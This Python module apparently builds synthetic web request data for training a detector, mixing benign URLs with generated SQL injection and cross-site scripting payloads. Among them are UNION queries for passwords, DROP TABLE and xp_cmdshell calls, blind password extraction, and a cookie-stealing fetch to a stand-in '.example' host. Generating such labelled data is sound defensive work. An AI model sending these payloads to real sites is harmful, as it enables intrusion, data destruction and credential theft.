"""Generated HTTP requests: benign requests to a web server, and attacks in the same parameters.

Benign requests contain quotes, SQL words and HTML tags too, and some attack probes are just a quote, so no
rule on single words separates them.
"""

# The pyarrow stubs lack type arguments, and know neither text literals nor boolean arrays as arguments.
# pyright: reportMissingTypeArgument=false, reportUnknownParameterType=false, reportCallIssue=false
# pyright: reportArgumentType=false, reportIndexIssue=false, reportAttributeAccessIssue=false

from collections.abc import Sequence

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from wirebert.data.synthetic.text import (
    TextGrammar,
    either,
    encoded,
    hexadecimal,
    join,
    mixed_case,
    mixture,
    number,
    pick,
)

_WORDS = """
account adapter autumn backup basket battery bicycle blue boots bread bridge cable camera candle carpet
chair charger coat coffee committee compact contract copper cotton cover cream delivery desk drawer drill
dress engine event fabric filter flight folder forest frame garden glass green grey hammer handle heater
holiday hotel income invoice jacket kettle keyboard kitchen ladder lamp leather lemon letter light linen
manual market meeting memory mirror monitor mountain needle north notebook figure office orange order
oven paint paper parking pencil phone pillow plate policy poster printer quarter radio railway receipt
red refund report river roof sample school screen season select service shelf shirt silver socket spring
station summer switch table tablet tea ticket timber travel trousers umbrella union update valley velvet
village wallet warranty watch water weekend white window winter wool yellow
""".split()
_NAMES = """
O'Brien O'Connor D'Angelo O'Neill L'Oreal Levi's McDonald's Smith Garcia Nguyen Novak Rossi Dubois Tanaka
Kowalski Jensen Silva Haddad Okafor Lindqvist
""".split()
_CODE = [
    "SELECT * FROM users WHERE id = 1",
    "select count(*) from orders group by day",
    "how to use union select in sql",
    "insert into table values example",
    "drop table if exists syntax",
    "order by date desc",
    "where name like '%son'",
    "<script> tag async defer",
    "html <img> alt attribute",
    "<b>bold</b> or <strong>",
    "onclick vs onload event",
    "alert() not working",
    "javascript:void(0) meaning",
    "document.cookie samesite",
    "sleep(5) python",
    "it's or its",
    "rock 'n' roll",
    "5 o'clock",
    "a <-> b",
    "x > 1 or y < 2",
    '"exact phrase"',
    "select committee; union vote",
    "cast('2024-01-01' as date)",
    "-- comment style",
    "C:/Users/it's me",
]
_PARAMETERS = (
    "q id name search item page user cat ref sort lang comment msg title city filter token view".split()
)
_PATHS = """
/ /search /products /product /item /cart /account /login /profile /news /blog /forum /wiki /docs /contact
/comment /api/v1/search /api/v2/items /api/v2/users /orders /reports /download /help/search /index.php
/view.php /article.asp /list.jsp
""".split()
_SECTIONS = "css js img fonts media assets static themes uploads".split()
_EXTENSIONS = "css js png jpg svg woff2 webp ico json".split()

_BROWSERS = [
    f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36"
    for system in ("Windows NT 10.0; Win64; x64", "X11; Linux x86_64", "Macintosh; Intel Mac OS X 10_15_7")
    for version in range(118, 132)
] + [
    f"Mozilla/5.0 ({system}; rv:{version}.0) Gecko/20100101 Firefox/{version}.0"
    for system in ("Windows NT 10.0; Win64; x64", "X11; Ubuntu; Linux x86_64")
    for version in range(115, 133)
]
_PROGRAMS = """
curl/7.88.1 curl/8.5.0 python-requests/2.31.0 python-requests/2.32.3 Go-http-client/1.1 okhttp/4.12.0
Java/17.0.9 Wget/1.21.4 axios/1.7.2 PostmanRuntime/7.39.0
""".split()
_SCANNERS = ["sqlmap/1.8#stable (https://sqlmap.org)", "Mozilla/5.0 zgrab/0.x", "Nikto/2.5.0", "Mozilla/5.0"]


def benign_uris(generator: np.random.Generator, count: int) -> pa.Array:
    """Request targets of ordinary visitors, programs and people who search for code."""
    return mixture(
        generator,
        count,
        [
            (0.3, _assets),
            (0.2, _pages),
            (0.2, _records),
            (0.22, _searches),
            (0.05, _odd_searches),
            (0.03, _ambiguous),
        ],
    )


def sql_injection_uris(generator: np.random.Generator, count: int) -> pa.Array:
    """Request targets with SQL; one in eight is a mild probe that a visitor may send too."""
    grammars: list[tuple[float | int, TextGrammar]] = [
        (0.27, _tautology),
        (0.25, _union),
        (0.12, _stacked),
        (0.13, _delay),
        (0.11, _blind),
    ]
    return _attack_uris(generator, count, grammars)


def cross_site_scripting_uris(generator: np.random.Generator, count: int) -> pa.Array:
    """Request targets with HTML or script; one in eight is a mild probe that a visitor may send too."""
    grammars: list[tuple[float | int, TextGrammar]] = [
        (0.3, _script_tag),
        (0.38, _event_handler),
        (0.2, _script_link),
    ]
    return _attack_uris(generator, count, grammars)


def user_agents(
    generator: np.random.Generator, count: int, *, programs: float, scanners: float = 0.0
) -> pa.Array:
    """User agents: the given fractions of programs and of scanning tools, otherwise browsers."""
    drawn = generator.random(count)
    browser, program, scanner = (pick(generator, pool, count) for pool in (_BROWSERS, _PROGRAMS, _SCANNERS))
    others = pc.if_else(pa.array(drawn < programs), program, browser)
    return pc.if_else(pa.array(drawn > 1 - scanners), scanner, others)


def _attack_uris(
    generator: np.random.Generator, count: int, grammars: Sequence[tuple[float | int, TextGrammar]]
) -> pa.Array:
    num_probes = int(generator.binomial(count, 0.12))
    values = mixture(generator, count - num_probes, grammars)
    values = mixed_case(generator, values, generator.random(len(values)) < 0.2)
    values = encoded(generator, values, raw=0.25, twice=0.06)
    shuffled = generator.permutation(count)
    return pa.concat_arrays([_target(generator, values), _ambiguous(generator, num_probes)]).take(
        pa.array(shuffled)
    )


def _target(generator: np.random.Generator, values: pa.Array) -> pa.Array:
    """A path and a query with `values` in one parameter, sometimes with another parameter before or after
    it."""
    count = len(values)
    extra = join(pick(generator, _PARAMETERS, count), "=", pick(generator, _WORDS, count))
    position = generator.random(count)
    before = pc.if_else(pa.array(position < 0.2), join(extra, "&"), "")
    after = pc.if_else(pa.array(position > 0.75), join("&", extra), "")
    return join(
        pick(generator, _PATHS, count), "?", before, pick(generator, _PARAMETERS, count), "=", values, after
    )


# Benign requests


def _assets(generator: np.random.Generator, count: int) -> pa.Array:
    folder, name, ending = (pick(generator, pool, count) for pool in (_SECTIONS, _WORDS, _EXTENSIONS))
    version = pc.if_else(
        pa.array(generator.random(count) < 0.4), join("?v=", number(generator, count, 1, 99_999)), ""
    )
    return join("/", folder, "/", name, ".", hexadecimal(generator, count), ".", ending, version)


def _pages(generator: np.random.Generator, count: int) -> pa.Array:
    words = (pick(generator, _WORDS, count) for _ in range(3))
    first, second, third = words
    return join(pick(generator, _PATHS, count), "/", first, "-", second, "-", third)


def _records(generator: np.random.Generator, count: int) -> pa.Array:
    return _target(generator, number(generator, count, 1, 50_000))


def _searches(generator: np.random.Generator, count: int) -> pa.Array:
    third = pc.if_else(pa.array(generator.random(count) < 0.4), join(" ", pick(generator, _WORDS, count)), "")
    name = pc.if_else(
        pa.array(generator.random(count) < 0.2), join(" ", pick(generator, _NAMES, count)), third
    )
    values = join(pick(generator, _WORDS, count), " ", pick(generator, _WORDS, count), name)
    return _target(generator, encoded(generator, values, raw=0.15, twice=0.005))


def _odd_searches(generator: np.random.Generator, count: int) -> pa.Array:
    word = pc.if_else(pa.array(generator.random(count) < 0.5), join(" ", pick(generator, _WORDS, count)), "")
    values = join(pick(generator, _CODE, count), word)
    return _target(generator, encoded(generator, values, raw=0.15, twice=0.02))


def _ambiguous(generator: np.random.Generator, count: int) -> pa.Array:
    """Input of visitors, and of attackers at first; drawn in the same way for both."""
    digits, word = number(generator, count, 1, 50_000), pick(generator, _WORDS, count)
    ending = pick(
        generator, ["'", '"', "')", "' ", "''", "<b>", '">', "<i>x</i>", "%", "\\'", "--", "<"], count
    )
    values = join(pc.if_else(pa.array(generator.random(count) < 0.5), digits, word), ending)
    return _target(generator, encoded(generator, values, raw=0.2, twice=0.02))


# SQL injection


def _break_out(generator: np.random.Generator, count: int) -> pa.Array:
    """A value, and the end of its string or bracket."""
    digits, word = number(generator, count, -1, 9_999), pick(generator, [*_WORDS, *_NAMES, ""], count)
    value = pc.if_else(pa.array(generator.random(count) < 0.6), digits, word)
    return join(value, pick(generator, ["'", "'", "'", '"', "')", "'))", "", "", ")", "%'"], count))


def _gap(generator: np.random.Generator, count: int) -> pa.Array:
    return pick(generator, [" ", " ", " ", " ", "/**/", "\t", "  ", "/*x*/"], count)


def _comment(generator: np.random.Generator, count: int) -> pa.Array:
    return pick(generator, ["--", "-- -", "#", "", "", "/*", ";--", "-- x"], count)


def _tautology(generator: np.random.Generator, count: int) -> pa.Array:
    digits = number(generator, count, 1, 9_999)
    word = pick(generator, _WORDS, count)
    equal = join(digits, pick(generator, ["=", " = ", " like ", "<=>", ">="], count), digits)
    quoted = join("'", word, "'='", word)
    always = pick(generator, ["1", "true", "not 0", "2>1", "'x'", "1 is not null"], count)
    condition = either(generator, 0.55, equal, either(generator, 0.6, quoted, always))
    word_or = pick(generator, ["or", "OR", "Or", "||", "or not", "and", "AND", "&&"], count)
    gap = _gap(generator, count)
    return join(_break_out(generator, count), gap, word_or, gap, condition, _comment(generator, count))


def _union(generator: np.random.Generator, count: int) -> pa.Array:
    gap = _gap(generator, count)
    fields = [
        ",".join(["null"] * k + [name] + ["null"] * j)
        for k in range(5)
        for j in range(4)
        for name in (
            "version()",
            "user()",
            "password",
            "@@version",
            "table_name",
            "concat(login,0x3a,pass)",
            "1",
        )
    ]
    tables = [
        "",
        "users",
        "information_schema.tables",
        "admin",
        "mysql.user",
        "members",
        "sqlite_master",
        "dual",
    ]
    source = pick(generator, tables, count)
    clause = pc.if_else(pc.equal(source, ""), "", join(gap, "from", gap, source))
    union = pick(generator, ["union select", "UNION SELECT", "union all select", "UNION ALL SELECT"], count)
    spaced = pc.if_else(
        pa.array(generator.random(count) < 0.3), pc.replace_substring(union, " ", "/**/"), union
    )
    fields_text = pick(generator, fields, count)
    return join(
        _break_out(generator, count), gap, spaced, gap, fields_text, clause, _comment(generator, count)
    )


def _stacked(generator: np.random.Generator, count: int) -> pa.Array:
    table = pick(generator, ["users", "orders", "members", "sessions", "logs", *_WORDS[:20]], count)
    verb = pick(generator, ["drop table ", "delete from ", "truncate table ", "DROP TABLE "], count)
    calls = ["exec xp_cmdshell('whoami')", "shutdown", "select @@version", "exec master..xp_dirtree '//x/a'"]
    statement = either(generator, 0.6, join(verb, table), pick(generator, calls, count))
    return join(
        _break_out(generator, count), ";", _gap(generator, count), statement, _comment(generator, count)
    )


def _delay(generator: np.random.Generator, count: int) -> pa.Array:
    seconds = number(generator, count, 1, 15)
    calls = ["sleep(", "SLEEP(", "pg_sleep(", "benchmark(1000000*", "dbms_pipe.receive_message('a',"]
    call = join(
        pick(generator, ["and ", "or ", "|| ", "AND ", "+"], count),
        pick(generator, calls, count),
        seconds,
        ")",
    )
    waits = join(";waitfor delay '0:0:", seconds, "'")
    wrapped = join("and (select 1 from (select(sleep(", seconds, ")))a)")
    statement = either(generator, 0.6, call, either(generator, 0.5, waits, wrapped))
    return join(_break_out(generator, count), _gap(generator, count), statement, _comment(generator, count))


def _blind(generator: np.random.Generator, count: int) -> pa.Array:
    position, letter = number(generator, count, 1, 40), number(generator, count, 32, 126)
    target = pick(
        generator, ["(select password from users limit 1)", "user()", "database()", "version()"], count
    )
    ascii_test = join("ascii(substring(", target, ",", position, ",1))>", letter)
    length_test = join("length(", target, ")=", position)
    order = join("order by ", position)
    test = either(
        generator, 0.5, join("and ", ascii_test), either(generator, 0.5, join("and ", length_test), order)
    )
    return join(_break_out(generator, count), _gap(generator, count), test, _comment(generator, count))


# Cross-site scripting


def _script_call(generator: np.random.Generator, count: int) -> pa.Array:
    digits, word = number(generator, count, 0, 9_999), pick(generator, _WORDS, count)
    function = pick(
        generator, ["alert", "prompt", "confirm", "console.log", "top.alert", "window['alert']"], count
    )
    argument = either(
        generator,
        0.5,
        digits,
        pick(generator, ["document.domain", "document.cookie", "/xss/", "'x'", "1"], count),
    )
    brackets = join(function, "(", argument, ")")
    theft = join("fetch('//", word, ".example/'+document.cookie)")
    hidden = join("eval(atob('", hexadecimal(generator, count), "'))")
    codes = join("eval(String.fromCharCode(97,108,", digits, "))")
    return either(
        generator, 0.6, brackets, either(generator, 0.5, theft, either(generator, 0.5, hidden, codes))
    )


def _opening(generator: np.random.Generator, count: int) -> pa.Array:
    return join(
        pick(generator, ["", "", *_WORDS[:12]], count),
        pick(generator, ["", "", '">', "'>", "</title>", "</textarea>", "-->", '"/>'], count),
    )


def _script_tag(generator: np.random.Generator, count: int) -> pa.Array:
    tag = pick(
        generator,
        ["<script>", "<script >", "<script/x>", "<script type=text/javascript>", "<<script>"],
        count,
    )
    ending = pick(generator, ["</script>", "</script>", "//", "</script >"], count)
    return join(_opening(generator, count), tag, _script_call(generator, count), ending)


def _event_handler(generator: np.random.Generator, count: int) -> pa.Array:
    tag = pick(
        generator,
        ["<img src=x", "<svg", "<body", "<input autofocus", "<details open", "<video src=x", "<a"],
        count,
    )
    gap = pick(generator, [" ", " ", "/", "\t"], count)
    events = ["onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onclick", "onpointerenter"]
    event = join(pick(generator, events, count), "=", _script_call(generator, count))
    inside_tag = join(_opening(generator, count), tag, gap, event, ">")
    inside_value = join(pick(generator, _WORDS, count), pick(generator, ["' ", '" '], count), event, " x=")
    return either(generator, 0.7, inside_tag, inside_value)


def _script_link(generator: np.random.Generator, count: int) -> pa.Array:
    scheme = pick(
        generator,
        ["javascript:", "java&#115;cript:", "data:text/html,", "vbscript:", "javascript&colon;"],
        count,
    )
    wrap = pick(generator, ["", "", "<a href=", "<iframe src=", "<form action=", "<object data="], count)
    return join(wrap, scheme, _script_call(generator, count))
